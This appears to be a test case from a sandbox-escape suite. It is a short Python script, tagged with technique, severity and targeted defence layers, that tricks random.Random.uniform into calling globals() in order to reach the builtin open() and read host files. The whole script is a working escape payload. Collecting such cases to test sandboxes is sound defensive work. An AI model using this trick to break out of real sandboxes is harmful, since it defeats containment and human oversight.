# technique: globals as a method that a library class calls on itself
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import random

class Number:
    def __sub__(self, other):
        return self

    def __mul__(self, other):
        return other

class Generator(random.Random):
    random = globals

class Start:
    def __add__(self, other):
        return other

    def __rsub__(self, other):
        return Number()

class End:
    def __sub__(self, other):
        return Number()

read_host(lambda: Generator().uniform(Start(), End())["__builtins__"]["open"])
